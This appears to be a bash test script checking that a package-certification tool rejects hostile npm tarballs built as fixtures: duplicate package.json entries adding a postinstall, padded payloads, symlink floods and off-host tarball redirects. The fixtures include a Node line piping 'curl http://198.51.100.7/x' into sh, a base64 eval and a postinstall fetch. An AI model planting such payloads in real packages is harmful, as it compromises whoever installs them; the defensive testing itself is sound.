#!/usr/bin/env bash
# certify_hostile.sh: the certification attacks of issue 13, each against
# `sigma certify` and the registry stand-in on 127.0.0.1, each shown to
# fail: a tarball whose second package/package.json (or other/package.json,
# the same file once npm strips the first component) adds a postinstall; a
# malicious index.js padded past the 16 MiB single-file cap; 200,000
# symlinks; a tarball URL on another loopback port or host, directly or by
# a redirect (and sigma.allowedHosts letting one through); an OSV MAL-
# record withdrawn after it blocked (the block lifted, and a certificate it
# decided not reused).
source "$(dirname "$0")/../lib.sh"

unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY
export no_proxy=127.0.0.1,localhost NO_PROXY=127.0.0.1,localhost
export SIGMA_HTTP_BACKOFF=0.05 SIGMA_HTTP_RETRIES=0

out=$T/out
reg=$T/reg other=$T/other
mkdir -p "$reg/npm" "$other/npm"

start_standin() {  # start_standin ROOT PORTFILE
	python3 "$TESTS_DIR/registry_standin.py" "$1" > "$2" 2>>"$T/standin.err" &
	_pids+=($!)
	for _ in $(seq 50); do [ -s "$2" ] && break; sleep 0.1; done
}
start_standin "$reg" "$T/port"
start_standin "$other" "$T/port2"
port=$(cat "$T/port") port2=$(cat "$T/port2")
base=http://127.0.0.1:$port
export SIGMA_NPM_REGISTRY=$base
control() { curl -s -X POST --data "$1" "$base/_control" > /dev/null; }
hits() {  # hits BASE PATH
	curl -s "$1/_stats" | python3 -c "import json,sys; print(json.load(sys.stdin)['paths'].get(sys.argv[1], 0))" "$2"
}
field() {
	"$SIGMA_BIN" registry show "$1" "$2" "$3" --json | python3 -c "import json,sys; c=json.load(sys.stdin); print($4)"
}
run() { "$SIGMA_BIN" "$@" > "$out" 2>&1; }

python3 - "$reg" "$other" "$port2" <<'PY'
import base64, gzip, hashlib, io, json, random, sys, tarfile
reg, other, port2 = sys.argv[1], sys.argv[2], sys.argv[3]

def tar_bytes(entries):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as t:
        for name, data in entries:
            info = tarfile.TarInfo(name); data = data.encode(); info.size = len(data); info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)

def doc(name, version, data, tarball, extra=None):
    d = {"name": name, "version": version, "dist": {
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
        "shasum": hashlib.sha1(data).hexdigest(), "tarball": tarball}}
    d.update(extra or {})
    return json.dumps(d)

def put(folder, name, version, data, tarball=None, extra=None):
    open(f"{folder}/npm/{name}-{version}.tgz", "wb").write(data)
    if tarball:
        open(f"{reg}/npm/{name}-{version}.json", "w").write(doc(name, version, data, tarball, extra))

harmless = lambda n: '{"name":"%s","version":"1.0.0","main":"index.js"}' % n
evil = lambda n: '{"name":"%s","version":"1.0.0","scripts":{"postinstall":"node lib/setup.js"}}' % n
setup_js = "require('https').get('https://hooks.slack.com/services/x', r => r.pipe(process.stdout));\n"
# Finding 1: a second package.json, under package/ and under other/.
put(reg, "twin-json", "1.0.0", tar_bytes([("package/package.json", harmless("twin-json")),
    ("package/index.js", "module.exports = 1;\n"), ("package/lib/setup.js", setup_js),
    ("package/package.json", evil("twin-json"))]))
put(reg, "twin-other", "1.0.0", tar_bytes([("package/package.json", harmless("twin-other")),
    ("package/index.js", "module.exports = 1;\n"), ("package/lib/setup.js", setup_js),
    ("other/package.json", evil("twin-other"))]))
# Finding 2: the malicious index.js of a REJECTED package, padded to 17 MiB.
random.seed(7)
blob = base64.b64encode(bytes(random.getrandbits(8) for _ in range(600))).decode()
payload = ("require('child_process').exec('curl -s http://198.51.100.7/x | sh');\n"
           "eval(Buffer.from('%s','base64').toString());\n" % blob)
put(reg, "padded-small", "1.0.0", tar_bytes([("package/package.json", harmless("padded-small")),
    ("package/index.js", payload)]))
put(reg, "padded-big", "1.0.0", tar_bytes([("package/package.json", harmless("padded-big")),
    ("package/index.js", "/*" + " " * (17 << 20) + "*/\n" + payload)]))
# Finding 2: 200,000 symlinks (headers written directly: tarfile is slow at this).
def link_header(i):
    h = bytearray(512)
    name = b"package/l%07d" % i
    h[0:len(name)] = name
    h[100:108] = b"0000777\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
    h[124:136] = b"00000000000\0"; h[136:148] = b"00000000000\0"; h[156:157] = b"2"
    h[157:165] = b"index.js"; h[257:263] = b"ustar\0"; h[263:265] = b"00"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)
z = io.BytesIO()
with gzip.GzipFile(fileobj=z, mode="wb", compresslevel=1, mtime=0) as g:
    head = io.BytesIO()
    with tarfile.open(fileobj=head, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in [("package/package.json", harmless("many-links")), ("package/index.js", "1;\n")]:
            info = tarfile.TarInfo(name); info.size = len(data); info.mtime = 0
            t.addfile(info, io.BytesIO(data.encode()))
    # The two files (a header and one data block each), without tarfile's end blocks.
    g.write(head.getvalue()[:4 * 512])
    for start in range(0, 200000, 10000):
        g.write(b"".join(link_header(i) for i in range(start, start + 10000)))
    g.write(b"\0" * 1024)
data = z.getvalue()
put(reg, "many-links", "1.0.0", data, "https://registry.invalid/many-links/-/many-links-1.0.0.tgz")
# Finding 7: documents that send the download elsewhere.
clean = tar_bytes([("package/package.json", harmless("elsewhere")), ("package/index.js", "module.exports = 1;\n")])
put(other, "elsewhere", "1.0.0", clean, "http://127.0.0.1:%s/elsewhere/-/elsewhere-1.0.0.tgz" % port2)
clean2 = tar_bytes([("package/package.json", harmless("byname")), ("package/index.js", "module.exports = 2;\n")])
put(reg, "byname", "1.0.0", clean2, "http://localhost:%s/byname/-/byname-1.0.0.tgz" % "PORT")
clean3 = tar_bytes([("package/package.json", harmless("bounce")), ("package/index.js", "module.exports = 3;\n")])
put(reg, "bounce", "1.0.0", clean3)
put(other, "bounce", "1.0.0", clean3)
clean4 = tar_bytes([("package/package.json", harmless("hop")), ("package/index.js", "module.exports = 4;\n")])
put(reg, "hop", "1.0.0", clean4)
put(reg, "mal-retracted", "1.0.0", tar_bytes([("package/package.json", harmless("mal-retracted")),
    ("package/index.js", "module.exports = 5;\n")]))
PY
sed -i "s/localhost:PORT/localhost:$port/" "$reg/npm/byname-1.0.0.json"
sed -i "s#https://registry.invalid/#$base/#" "$reg/npm/many-links-1.0.0.json"

check "two stand-ins listen on 127.0.0.1" test -n "$port" -a -n "$port2"

# --- finding 1: duplicate entries ----------------------------------------------------
for pkg in twin-json twin-other; do
	run certify npm "$pkg" 1.0.0; rc=$?
	check "$pkg: a second package.json with a postinstall is not certified clean (exit $rc)" \
		test "$rc" -eq 1 -a "$(field npm "$pkg" 1.0.0 "c['status'],c['verdict']")" = "blocked REJECTED"
	check "... the duplicate is a CRITICAL finding naming both entries" \
		test "$(field npm "$pkg" 1.0.0 "[(w['severity'],'package/package.json' in w['message']) for w in c['retained_warnings'] if w['code']=='duplicate-entry']")" = "[('CRITICAL', True)]"
	check "... the install reviewer read the installed copy: its postinstall is a finding" \
		test "$(field npm "$pkg" 1.0.0 "any(w['code'].startswith('install-script') for w in c['retained_warnings'])")" = True
	check "... and nothing ran in the sandbox" \
		test "$(field npm "$pkg" 1.0.0 "c['execution']['outcome'],c['execution']['reason']")" = "skipped the archive names one file twice"
done

# --- finding 2: padding past the caps -------------------------------------------------
run certify npm padded-small 1.0.0
check "the payload in a small file is REJECTED, CRITICAL" \
	test "$(field npm padded-small 1.0.0 "c['verdict'],c['security_level']")" = "REJECTED CRITICAL"
start=$(date +%s%N)
run certify npm padded-big 1.0.0; rc=$?
ms=$(( ($(date +%s%N) - start) / 1000000 ))
check "the same payload after 17 MiB of padding is REJECTED too, CRITICAL (exit $rc, ${ms} ms)" \
	test "$rc" -eq 1 -a "$(field npm padded-big 1.0.0 "c['status'],c['verdict'],c['security_level']")" = "blocked REJECTED CRITICAL"
check "... reviewed in full: FULL, every byte counted, the payload found at its real line" \
	test "$(field npm padded-big 1.0.0 "c['analysis_type'], c['files']['bytes'] > 17<<20, sorted({w['file'] for w in c['retained_warnings'] if w['code'] in ('blob-exec','exec-shell-download')})")" = "FULL True ['index.js:2', 'index.js:3']"

start=$(date +%s%N)
run certify npm many-links 1.0.0; rc=$?
ms=$(( ($(date +%s%N) - start) / 1000000 ))
check "200,000 symlinks: capped quickly (${ms} ms < 5000)" test "$ms" -lt 5000
check "... and not approved: FLAGGED, PARTIAL, the cap named as not reviewed" \
	test "$(field npm many-links 1.0.0 "c['verdict'],c['analysis_type'],[w['severity'] for w in c['retained_warnings'] if w['code']=='not-reviewed']")" = "FLAGGED PARTIAL ['HIGH']"

# --- finding 7: where the tarball comes from ------------------------------------------------
run certify npm elsewhere 1.0.0; rc=$?
check "a tarball URL on another loopback port is refused (exit $rc)" test "$rc" -eq 1
check "... naming the URL and the setting that would allow it" \
	grep -q "http://127.0.0.1:$port2/elsewhere/-/elsewhere-1.0.0.tgz: host 127.0.0.1:$port2 is not allowed .*sigma.allowedHosts" "$out"
check "... and the other server never saw a request" test "$(hits "http://127.0.0.1:$port2" /elsewhere/-/elsewhere-1.0.0.tgz)" = 0
run certify npm byname 1.0.0; rc=$?
check "a tarball URL naming another host (localhost, same port) is refused" \
	bash -c "test $rc -eq 1 && grep -q 'host localhost:$port is not allowed' '$out'"
control "{\"redirect\":{\"/bounce/-/bounce-1.0.0.tgz\":\"http://127.0.0.1:$port2/bounce/-/bounce-1.0.0.tgz\"}}"
run certify npm bounce 1.0.0; rc=$?
check "a redirect to another port is refused" \
	bash -c "test $rc -eq 1 && grep -q 'bounce-1.0.0.tgz redirects to http://127.0.0.1:$port2/bounce/-/bounce-1.0.0.tgz: host 127.0.0.1:$port2 is not allowed' '$out'"
check "... before any request reached it" test "$(hits "http://127.0.0.1:$port2" /bounce/-/bounce-1.0.0.tgz)" = 0
control "{\"redirect\":{\"/hop/-/hop-1.0.0.tgz\":\"$base/hop/-/hop-1.0.0.tgz?mirror=1\"}}"
run certify npm hop 1.0.0; rc=$?
check "a redirect on the registry's own host is followed: certified" \
	bash -c "test $rc -eq 0 && grep -q '^certified   npm hop 1.0.0' '$out'"
git config --file "$SIGMA_CONFIG" sigma.allowedHosts "files.example, 127.0.0.1:$port2"
run certify npm elsewhere 1.0.0; rc=$?
check "sigma.allowedHosts naming 127.0.0.1:$port2 lets it through: certified" \
	bash -c "test $rc -eq 0 && grep -q '^certified   npm elsewhere 1.0.0' '$out'"
run certify npm bounce 1.0.0; rc=$?
check "... redirects included" test "$rc" -eq 0 -a "$(hits "http://127.0.0.1:$port2" /bounce/-/bounce-1.0.0.tgz)" = 1
: > "$SIGMA_CONFIG"

# --- finding 9: a withdrawn OSV record -------------------------------------------------------
rec() {  # rec ID [WITHDRAWN]
	printf '{"id":"%s",%s"summary":"test record","affected":[{"package":{"ecosystem":"npm","name":"left-pad-evil"},"versions":["1.0.0"]}]}\n' \
		"$1" "${2:+\"withdrawn\":\"$2\",}"
}
rec MAL-2099-1 > "$T/live.json"
rec MAL-2099-1 2099-01-01T00:00:00Z > "$T/withdrawn.json"
rec MAL-2099-2 2099-01-01T00:00:00Z > "$T/never.json"
"$SIGMA_BIN" registry block npm left-pad-evil 1.0.0 --reason "held by hand" > /dev/null 2>&1
run registry import "$T/never.json"
check "a withdrawn MAL- record blocks nothing" \
	bash -c "grep -q '1 withdrawn (0 blocks lifted)' '$out' && ! '$SIGMA_BIN' registry show npm left-pad-evil 1.0.0 --json | grep -q 'osv:MAL-2099-2'"
run registry import "$T/live.json"
"$SIGMA_BIN" registry show npm left-pad-evil 1.0.0 --json > "$out.show" 2>&1
check "the live record blocks" grep -q 'osv:MAL-2099-1' "$out.show"
run registry import "$T/withdrawn.json"
"$SIGMA_BIN" registry show npm left-pad-evil 1.0.0 --json > "$out.show" 2>&1
check "importing its withdrawn version lifts the block" \
	bash -c "grep -q '1 withdrawn (1 blocks lifted)' '$out' && ! grep -q 'osv:MAL-2099-1' '$out.show'"
check "... other blocks on the package stay" grep -q '"status":"blocked"' "$out.show"

# A certificate the malware reviewer decided by that record is not reused
# once the record is withdrawn: the package is reviewed again.
sed 's/left-pad-evil/mal-retracted/; s/MAL-2099-1/MAL-2099-3/' "$T/live.json" > "$T/live3.json"
sed 's/left-pad-evil/mal-retracted/; s/MAL-2099-1/MAL-2099-3/' "$T/withdrawn.json" > "$T/withdrawn3.json"
"$SIGMA_BIN" registry import "$T/live3.json" > /dev/null 2>&1
run certify npm mal-retracted 1.0.0; rc=$?
check "a version a live MAL- record names: blocked, malware:MAL-2099-3" \
	test "$rc" -eq 1 -a "$(field npm mal-retracted 1.0.0 "[r['code'] for r in c['reasons']][-1]")" = "malware:MAL-2099-3"
"$SIGMA_BIN" registry import "$T/withdrawn3.json" > /dev/null 2>&1
run certify npm mal-retracted 1.0.0; rc=$?
check "after the record is withdrawn, certifying again reviews it afresh: certified, not reused" \
	bash -c "test $rc -eq 0 && grep -q '^certified   npm mal-retracted 1.0.0' '$out' && ! grep -qF '(reused)' '$out'"

check "every request the stand-ins saw came from 127.0.0.1" \
	test "$(curl -s "$base/_stats" | python3 -c "import json,sys; print(json.load(sys.stdin)['clients'])")" = "['127.0.0.1']"
[ -n "${KEEP:-}" ] && { trap - EXIT; echo "# kept $T"; }
done_testing
